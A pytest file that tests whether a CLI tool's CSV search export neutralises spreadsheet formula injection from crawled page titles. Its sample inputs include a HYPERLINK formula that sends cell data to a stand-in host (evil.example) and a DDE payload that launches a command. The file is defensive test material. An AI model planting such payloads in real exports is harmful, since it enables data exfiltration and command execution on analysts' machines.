"""Attack: a crawled title or link that a spreadsheet runs as a formula.

``tinradar search --format csv`` is what an analyst opens in Excel or LibreOffice. A cell
that starts with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return before one) is read
as a formula there: a hostile page titled ``=HYPERLINK("https://evil.example/?"&A1,"…")``
became a live link that sends the neighbouring cells away, ``=cmd|…`` a DDE prompt. Every
cell whose text comes from a crawled page must reach the sheet as text (OWASP: a leading
``'``), and the value must stay readable.
"""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from flows.cli import app as cli
from tests.flows.review import seed

FORMULAS = [
    ("eq", '=HYPERLINK("https://evil.example/?"&A2,"khẩn cấp")'),
    ("plus", "+1+cmd|' /C calc'!A0 khẩn cấp"),
    ("minus", "-2+3 khẩn cấp"),
    ("at", "@SUM(1+1) khẩn cấp"),
    ("tab", "\t=1+1 khẩn cấp"),
]


@pytest.mark.parametrize(("key", "title"), FORMULAS, ids=[k for k, _ in FORMULAS])
def test_search_csv_cells_are_never_formulas(es_client, es_settings, env, key, title):
    seed.load(es_client, es_settings, [seed.item(key, risk=0.8, title=title, text=f"{title}. Nội dung khẩn cấp.")])
    es_client.indices.refresh(index=f"{es_settings.es_index_prefix}-*")
    result = CliRunner().invoke(cli, ["search", "khẩn", "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == 1, result.stdout
    for column, cell in rows[0].items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert rows[0]["title"][1:].strip() == title.strip()  # the whole title after the quote, shown as text
